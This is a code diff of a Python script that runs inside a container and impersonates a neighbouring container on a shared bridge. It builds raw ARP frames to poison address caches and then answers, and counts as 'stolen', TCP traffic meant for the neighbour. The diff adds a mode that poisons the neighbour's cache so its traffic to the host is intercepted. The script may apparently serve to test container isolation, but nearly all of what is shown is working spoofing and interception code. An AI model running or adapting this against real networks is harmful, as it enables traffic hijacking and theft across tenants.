@@ -1,7 +1,8 @@
 """Code inside a container that wants the visitors of its neighbour. It has what its container has and nothing of ours.
 
 `arp` says that the neighbour's address is at its own MAC; `mac` says that the neighbour's MAC is at its own port of the
-bridge. Both then answer what arrives for the neighbour, as a web server would. The text is run inside the container.
+bridge. Both then answer what arrives for the neighbour, as a web server would. `host` tells the neighbour that this host is at
+its own MAC, and takes the answers. The text is run inside the container.
 """
 
 from __future__ import annotations
@@ -29,15 +30,16 @@ def checksum(data):
 
 def claim(wire):
     mac = THEIRS if way == "mac" else OWN
-    for to in (EVERYBODY,):
-        for operation in (1, 2):
-            wire.send(to + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + VICTIM
-                      + (b"\0" * 6 if operation == 1 else to) + (HOST if operation == 1 else HOST))
-            told["sent"] += 1
+    to, whose, whom = (THEIRS, HOST, VICTIM) if way == "host" else (EVERYBODY, VICTIM, HOST)
+    for operation in (1, 2):  # asked and answered: who believes one of them believes us
+        wire.send(to + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + whose + to + whom)
+        told["sent"] += 1
 
 
 def answer(wire, frame):
     """Answer one TCP segment for the neighbour, as far as a visitor needs it."""
+    if way == "host" and frame[12:14] == b"\x08\x00" and frame[26:34] == VICTIM + HOST:
+        told["stolen"] += 1
     if frame[12:14] != b"\x08\x00" or frame[30:34] != VICTIM or frame[23] != 6:
         return
     told["stolen"] += 1
